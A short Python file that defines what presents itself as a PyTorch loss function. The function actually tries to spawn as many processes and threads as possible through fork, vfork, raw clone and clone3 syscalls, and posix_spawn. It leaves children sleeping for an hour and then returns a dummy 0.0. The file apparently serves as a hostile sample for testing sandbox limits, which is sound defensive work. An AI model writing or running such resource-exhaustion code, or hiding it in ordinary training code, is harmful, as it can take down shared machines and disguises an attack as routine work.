# loses: loss
# Starts as many processes and threads as it can, by every call there is.
import ctypes
import os
import threading
import time

import torch


def loss(y_pred, y):
    libc = ctypes.CDLL(None)
    started = 0
    for attempt in (
        os.fork,
        lambda: threading.Thread(target=time.sleep, args=(3600,)).start(),
        lambda: libc.fork(),
        lambda: libc.vfork(),
        lambda: libc.syscall(57),
        lambda: libc.syscall(56, 17, 0, 0, 0, 0),
        lambda: libc.syscall(435, (ctypes.c_uint64 * 11)(0), 88),
        lambda: os.posix_spawn("/bin/sleep", ["sleep", "3600"], {}),
    ):
        for _ in range(300):
            try:
                child = attempt()
            except (OSError, RuntimeError):
                break
            if child == 0:
                time.sleep(3600)
            if isinstance(child, int) and child < 0:
                break
            started += 1
    print("started", started)
    return 0.0
